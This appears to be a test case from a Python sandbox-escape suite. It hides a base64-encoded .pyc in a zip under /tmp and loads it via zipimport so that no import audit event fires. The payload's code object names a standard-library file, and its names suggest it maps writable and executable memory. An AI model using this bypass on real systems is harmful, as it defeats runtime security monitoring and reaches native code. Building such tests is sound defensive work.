# family: spoofed_filename
# reaches: native_code
# layer: runtime
# static: denied
# zipimport (frozen, so trusted) loads a .pyc from an archive the program wrote to /tmp and
# executes it: the code object inside names a standard library file. load_module raises no
# "import" event, so the module name is not checked either.
import base64
import sys
import zipfile

zipimport = sys.modules["zipimport"]
external = sys.modules["_frozen_importlib_external"]
CODE = (
    "4wAAAAAAAAAAAAAAAAYAAAAAAAAA814AAACXAGQAZAFsAFoAAgBlAGoAAAAAAAAAAABkAmQDZQBqAQAAAAAAAAAAZQBq"
    "AgAAAAAAAAAAegcAAGUAagMAAAAAAAAAAHoHAACsBKYDAACrAwAAAAAAAAAAWgRkAVMAKQXpAAAAAE7p/////2kAEAAA"
    "KQHaBHByb3QpBdoEbW1hcNoJUFJPVF9SRUFE2gpQUk9UX1dSSVRF2glQUk9UX0VYRUPaCmV4ZWN1dGFibGWpAPMAAAAA"
    "+iUvdXNyL2xpYi9weXRob24zLjExL2pzb24vX3NwZWVkdXBzLnB5+gg8bW9kdWxlPnINAAAAAQAAAHM6AAAA8AMBAQHY"
    "AAuAC4ALgAvYDRaIVIxZkHKYNKBkpG6wdLR/0SZGyBTMHtEmV9ANWNENWNQNWIAKgAqACnILAAAA"
)
pyc = external.MAGIC_NUMBER + b"\0" * 12 + base64.b64decode(CODE)
with zipfile.ZipFile("/tmp/plugins.zip", "w") as z:
    z.writestr("speedups.pyc", pyc)
module = zipimport.zipimporter("/tmp/plugins.zip").load_module("speedups")
print(module.executable)
